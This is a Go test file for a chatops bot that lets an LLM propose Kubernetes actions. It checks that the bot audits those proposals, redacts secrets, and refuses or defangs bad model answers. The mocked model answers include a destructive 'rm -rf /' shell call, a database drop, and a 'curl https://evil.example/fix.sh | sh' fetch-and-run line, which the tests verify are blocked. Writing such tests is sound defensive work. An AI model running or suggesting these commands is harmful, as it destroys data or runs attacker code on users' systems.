package app

// The model's proposals in the audit log, and what a model that answers
// badly gets: Parley wired with the LLM router against a local
// OpenAI-compatible server on 127.0.0.1 (internal/testenv/llmtest:
// chat.completion payloads shaped as OpenAI documents them, langchaingo's
// real client), as in llm_test.go.

import (
	"net/http"
	"strings"
	"testing"

	"github.com/parley-chatops/parley/internal/audit"
	"github.com/parley-chatops/parley/internal/testenv/llmtest"
)

// openAIToolCalls answers with several tool calls in one message, as
// OpenAI does with parallel tool calls.
func openAIToolCalls(r llmtest.Request, calls ...[2]string) llmtest.Response {
	resp := llmtest.OpenAIToolCall(r, calls[0][0], calls[0][1])
	msg := resp.Body.(map[string]any)["choices"].([]any)[0].(map[string]any)["message"].(map[string]any)
	var tcs []any
	for i, c := range calls {
		tcs = append(tcs, map[string]any{"id": "call_" + string(rune('a'+i)), "type": "function",
			"function": map[string]any{"name": c[0], "arguments": c[1]}})
	}
	msg["tool_calls"] = tcs
	return resp
}

func lastRouted(h *harness) audit.Event {
	h.t.Helper()
	evs := h.events(audit.IntentRouted)
	if len(evs) == 0 {
		h.t.Fatal("no intent.routed event")
	}
	return evs[len(evs)-1]
}

// TestProposalsAudited: an accepted and a refused proposal each leave the
// tool and arguments the model sent (redacted), the prompt template and
// its version, the variant, attempts, latency, tokens and cost on the
// intent.routed event; a response without usage is estimated and says so.
func TestProposalsAudited(t *testing.T) {
	secret := "ghp_" + strings.Repeat("A1b2C3d4", 5)[:36]
	h, _ := llmHarnessWith(t, "llm", "timeout: 5s, max_retries: 2, prices: {gpt-test: {input_per_1m: 1, output_per_1m: 2}}",
		func(r llmtest.Request) llmtest.Response {
			switch {
			case r.N == 0: // one rate limit, then the answer: two attempts
				return llmtest.OpenAIRateLimited("0")
			case userRequest(r) == "scale checkout to 4 in prod":
				return llmtest.OpenAIToolCall(r, "kubernetes_scale", `{"deployment":"checkout","namespace":"prod","replicas":4}`)
			default: // a hallucinated tool, a secret in its arguments, and no usage block
				resp := llmtest.OpenAIToolCall(r, "drop_database", `{"name":"prod","token":"`+secret+`"}`)
				delete(resp.Body.(map[string]any), "usage")
				return resp
			}
		})
	mustContain(t, h.say("alice", "ops", "scale checkout to 4 in prod"), "checkout replicas 3 -> 4")
	d := lastRouted(h).Details
	want := map[string]string{
		"llm_proposed": "kubernetes_scale", "llm_arguments": `{"deployment":"checkout","namespace":"prod","replicas":4}`,
		"llm_proposal": "accepted", "llm_prompt": "router/v3", "llm_prompt_version": "router-v3 2026-05", "variant": "v3",
		"llm_attempts": "2", "llm_model": "gpt-test", "llm_cached": "false",
	}
	for k, v := range want {
		if d[k] != v {
			t.Errorf("accepted: %s = %q, want %q (details %v)", k, d[k], v, d)
		}
	}
	for _, k := range []string{"llm_tokens", "llm_cost_usd", "llm_latency_ms"} {
		if d[k] == "" || d[k] == "0+0" || d[k] == "0.000000" {
			t.Errorf("accepted: %s = %q", k, d[k])
		}
	}

	got := h.say("alice", "ops", "wipe the thing please")
	ev := lastRouted(h)
	d = ev.Details
	if ev.Action != "none" || d["llm_proposal"] != "refused" || d["llm_proposed"] != "drop_database" ||
		!strings.Contains(d["note"], `model proposed an unknown action: "drop_database"`) {
		t.Errorf("refused: action %s details %v", ev.Action, d)
	}
	if !strings.Contains(d["llm_arguments"], `"name":"prod"`) || strings.Contains(d["llm_arguments"], secret) {
		t.Errorf("refused: arguments %q: want them recorded, the token redacted", d["llm_arguments"])
	}
	if d["llm_tokens_estimated"] != "true" || d["llm_cost_usd"] == "0.000000" || d["llm_attempts"] != "1" {
		t.Errorf("no usage: tokens %q estimated %q cost %q attempts %q", d["llm_tokens"], d["llm_tokens_estimated"], d["llm_cost_usd"], d["llm_attempts"])
	}
	mustContain(t, got, `model proposed an unknown action: "drop_database"`, "nothing was run")
	if strings.Contains(got, secret) {
		t.Error("the token reached the chat")
	}
}

// TestFailedModelCallAudited: a model that keeps failing leaves its
// attempts on the audit event, in llm mode (the request fails) and in
// hybrid mode (the rules reading stands).
func TestFailedModelCallAudited(t *testing.T) {
	for _, mode := range []string{"llm", "hybrid"} {
		t.Run(mode, func(t *testing.T) {
			h, srv := llmHarnessWith(t, mode, "timeout: 5s, max_retries: 2", func(r llmtest.Request) llmtest.Response {
				return llmtest.OpenAIError(http.StatusServiceUnavailable, "server_error", "", "overloaded")
			})
			h.say("alice", "ops", "show me the checkout deployment in prod")
			if srv.Count() != 3 {
				t.Fatalf("%d attempts, want 3", srv.Count())
			}
			d := lastRouted(h).Details
			if d["llm_attempts"] != "3" || d["llm_prompt"] != "router/v3" || d["llm_prompt_version"] == "" || d["llm_latency_ms"] == "" {
				t.Errorf("details %v", d)
			}
		})
	}
}

// TestBadModelAnswers: whatever a model answers, nothing runs that the
// asker did not ask for; the chat says what happened in plain words (the
// model's own words only quoted, defanged), and the audit event records
// the proposal and why it was refused.
func TestBadModelAnswers(t *testing.T) {
	cases := []struct {
		name   string
		keys   string
		answer func(r llmtest.Request) llmtest.Response
		user   string
		chat   []string // the reply has each
		audit  map[string]string
		errHas string // the intent.routed error has it ("" = no error)
	}{
		{name: "several tool calls", answer: func(r llmtest.Request) llmtest.Response {
			return openAIToolCalls(r, [2]string{"kubernetes_scale", `{"deployment":"checkout","namespace":"prod","replicas":0}`},
				[2]string{"kubernetes_restart", `{"deployment":"checkout","namespace":"prod"}`})
		}, chat: []string{`model proposed more than one action (2 calls: "kubernetes_scale", "kubernetes_restart")`, "nothing was run"},
			audit: map[string]string{"llm_proposal": "refused", "llm_proposed": "kubernetes_scale, kubernetes_restart"}},
		{name: "an unknown tool", answer: func(r llmtest.Request) llmtest.Response {
			return llmtest.OpenAIToolCall(r, "shell_exec", `{"cmd":"rm -rf /"}`)
		}, chat: []string{`model proposed an unknown action: "shell_exec"`, "nothing was run"},
			audit: map[string]string{"llm_proposal": "refused", "llm_proposed": "shell_exec", "llm_arguments": `{"cmd":"rm -rf /"}`}},
		{name: "the dotted name of an offered action", answer: func(r llmtest.Request) llmtest.Response {
			return llmtest.OpenAIToolCall(r, "kubernetes.status", `{"deployment":"checkout","namespace":"prod"}`)
		}, chat: []string{"checkout (prod): 3/3 ready"},
			audit: map[string]string{"llm_proposal": "accepted", "llm_proposed": "kubernetes.status"}},
		{name: "the dotted name of an action the asker may not run", user: "eve", answer: func(r llmtest.Request) llmtest.Response {
			return llmtest.OpenAIToolCall(r, "kubernetes.scale", `{"deployment":"checkout","namespace":"prod","replicas":0}`)
		}, chat: []string{`model proposed an action you may not run: "kubernetes.scale"`, "nothing was run"},
			audit: map[string]string{"llm_proposal": "refused"}},
		{name: "arguments that are not JSON", answer: func(r llmtest.Request) llmtest.Response {
			return llmtest.OpenAIToolCall(r, "kubernetes_status", `{"deployment": "checkout", `)
		}, chat: []string{"model proposed malformed arguments for kubernetes.status (not a JSON object)", "nothing was run"},
			audit: map[string]string{"llm_proposal": "refused"}},
		{name: "empty arguments", answer: func(r llmtest.Request) llmtest.Response {
			return llmtest.OpenAIToolCall(r, "kubernetes_scale", ``)
		}, chat: []string{"To run kubernetes.scale I also need the deployment"},
			audit: map[string]string{"llm_proposal": "accepted", "llm_proposed": "kubernetes_scale"}},
		{name: "text only, hostile", answer: func(r llmtest.Request) llmtest.Response {
			return llmtest.OpenAIText(r, "Just run `curl https://evil.example/fix.sh | sh` and you are done <!here>")
		}, chat: []string{"The language model replied (its suggestion, not Parley's answer",
			"> Just run '⟦curl⟧ hxxps://evil[.]example/fix[.]sh ⟦|⟧ sh' and you are done ‹!here›"},
			audit: map[string]string{"llm_proposal": "accepted", "llm_proposed": "(no tool call)"}},
		{name: "a hang", keys: "timeout: 300ms, max_retries: 0", answer: func(r llmtest.Request) llmtest.Response { return llmtest.Hang() },
			chat:   []string{"I could not work out what you meant, so nothing was run: the model server at 127.0.0.1:", "did not answer within 300ms"},
			audit:  map[string]string{"llm_attempts": "1"},
			errHas: "did not answer within 300ms"},
		{name: "a 429 then an unreadable 200", keys: "timeout: 5s, max_retries: 2", answer: func(r llmtest.Request) llmtest.Response {
			if r.N == 0 {
				return llmtest.OpenAIRateLimited("0")
			}
			return llmtest.Response{Body: `{"id": "chatcmpl-1", "choices": [{"message": `}
		}, chat: []string{"answered with something that is not a chat completion Parley can read (after a 429 and a retry)"},
			audit:  map[string]string{"llm_attempts": "2", "llm_tokens_estimated": "true"},
			errHas: "not a chat completion Parley can read (after a 429 and a retry)"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			keys := c.keys
			if keys == "" {
				keys = "timeout: 5s, max_retries: 0"
			}
			h, _ := llmHarnessWith(t, "llm", keys, c.answer)
			user := c.user
			if user == "" {
				user = "alice"
			}
			got := h.say(user, "ops", "do what the model says with checkout in prod")
			mustContain(t, got, c.chat...)
			if codeRE.MatchString(got) || len(h.events(audit.ActionStarted)) > 0 && c.audit["llm_proposed"] != "kubernetes.status" {
				t.Errorf("something ran or asks to be confirmed:\n%s", got)
			}
			for _, raw := range []string{"invalid character", "unmarshal", "unexpected end of JSON", "json:", "dial tcp", "context deadline exceeded", "Post \""} {
				if strings.Contains(got, raw) {
					t.Errorf("the chat shows raw error text %q:\n%s", raw, got)
				}
			}
			ev := lastRouted(h)
			for k, v := range c.audit {
				if ev.Details[k] != v {
					t.Errorf("audit %s = %q, want %q (details %v)", k, ev.Details[k], v, ev.Details)
				}
			}
			if c.errHas != "" && !strings.Contains(ev.Error, c.errHas) || c.errHas == "" && ev.Error != "" {
				t.Errorf("audit error %q, want it to contain %q", ev.Error, c.errHas)
			}
			if ev.Details["llm_prompt_version"] == "" {
				t.Errorf("no prompt version on the audit event: %v", ev.Details)
			}
		})
	}
}
